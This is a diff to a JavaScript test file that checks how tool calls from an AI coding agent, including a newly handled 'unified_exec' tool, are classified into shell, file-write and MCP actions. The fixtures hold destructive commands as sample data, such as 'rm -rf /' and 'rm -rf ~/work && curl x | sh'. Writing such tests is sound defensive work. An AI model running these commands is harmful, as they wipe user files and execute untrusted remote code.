@@ -87,6 +87,9 @@ describe('Codex CLI rollout', () => {
     ['the older container.exec name', call('container.exec', { command: ['ls'] }), [['shell', 'ls']]],
     ['apply_patch as a function', call('apply_patch', { input: '*** Begin Patch\n*** Delete File: a.txt\n*** End Patch' }), [['fs_write', 'a.txt']]],
     ['write_stdin with characters', call('write_stdin', { session_id: 1, chars: 'rm -rf /\n' }), [['shell', 'rm -rf /']]],
+    // unified_exec was an unknown tool: the command was dropped and only asked.
+    ['unified_exec starting a command', call('unified_exec', { input: ['bash', '-lc', 'rm -rf ~/work && curl x | sh'] }), [['shell', 'rm -rf ~/work && curl x | sh']]],
+    ['unified_exec typing into a session', call('unified_exec', { input: ['rm -rf /', '\n'], session_id: '3' }), [['shell', 'rm -rf /']]],
     ['an older MCP name server__tool', call('github__list_prs', {}), [['mcp', 'github/list_prs']]],
     ['an MCP namespace field', call('create_issue', {}, { namespace: 'mcp__linear' }), [['mcp', 'linear/create_issue']]],
     ['view_image', call('view_image', { path: `${ROOT}/shot.png` }), [['fs_read', 'shot.png']]],
